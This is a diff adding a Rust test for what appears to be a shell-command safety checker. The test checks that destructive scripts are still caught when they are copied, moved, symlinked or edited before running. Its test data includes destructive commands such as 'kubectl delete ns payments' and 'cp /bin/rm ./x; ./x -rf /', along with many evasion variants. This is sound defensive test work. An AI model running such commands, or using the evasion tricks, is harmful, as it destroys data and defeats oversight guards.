@@ -779,3 +779,64 @@ fn a_host_or_context_from_a_list_is_no_known_target() {
         assert!(!facts.is_empty() && facts.iter().all(|f| f["unknown"].is_string()), "{line}: {facts:?}");
     }
 }
+
+#[test]
+fn programs_that_are_copied_linked_or_edited_before_they_run() {
+    let scene = cluster("evasion-copies");
+    scene.write("work/evil.sh", "#!/bin/sh\nkubectl delete ns payments\n");
+    scene.write("work/local.sh", "#!/bin/sh\necho fine\n");
+    scene.write("work/build/app", "#!/bin/sh\necho app\n");
+    scene.write("work/build/evil.sh", "#!/bin/sh\nkubectl delete ns payments\n");
+    found(
+        &scene,
+        &[
+            "cp evil.sh new.sh; chmod +x new.sh; ./new.sh",
+            "cp evil.sh local.sh; ./local.sh",
+            "cp evil.sh build; build/evil.sh",
+            "cp -t build evil.sh && ./build/../build/evil.sh",
+            "mkdir d; cp evil.sh d; ./d/evil.sh",
+            "cp evil.sh a; cp a b; mv b c; ./c",
+            "mv evil.sh new.sh; ./new.sh",
+            "mv local.sh t; mv evil.sh local.sh; ./local.sh",
+            "mv evil.sh t; mv local.sh evil.sh; ./t",
+            "ln evil.sh new.sh; ./new.sh",
+            "ln -sf evil.sh local.sh; ./local.sh",
+            "ln -s ../evil.sh build/x; ./build/x",
+            "install -m755 evil.sh new.sh; ./new.sh",
+            "cp -r build dist; ./dist/evil.sh",
+            "ln -sfn build current && current/evil.sh",
+            "cp evil.sh /tmp/; ./evil.sh",
+            "tar czf all.tgz evil.sh; ./evil.sh",
+            "sed -n 1p evil.sh; ./evil.sh",
+        ],
+    );
+    unsure(
+        &scene,
+        &[
+            "sed -i s/a/b/ local.sh; ./local.sh",
+            "sed -i s/a/b/ local.sh; cp local.sh new.sh; ./new.sh",
+            "perl -pi -e s/a/b/ local.sh; ./local.sh",
+            "curl -o a https://h.example/a; mv a b; ./b",
+            "if test -e x; then cp evil.sh new.sh; fi; ./new.sh",
+        ],
+    );
+    for line in [
+        "cp /bin/rm ./x; ./x -rf /",
+        "ln -s /usr/bin/kubectl ./k; ./k delete ns payments",
+        "mv kubectl-1.33 kubectl; ./kubectl delete ns payments",
+    ] {
+        assert!(checked(&scene, line).0, "{line}");
+    }
+    silent(
+        &scene,
+        &[
+            "cp local.sh /tmp/; ./local.sh",
+            "cp build/app ./app && ./app --help",
+            "cp gone there && ./there",
+            "tar xf a.tgz; ./configure",
+            "sed -n 1p local.sh; ./local.sh",
+            "sed -i s/a/b/ notes.txt; ./local.sh",
+            "ln -s /usr/bin/kubectl ./k; ./k get pods",
+        ],
+    );
+}
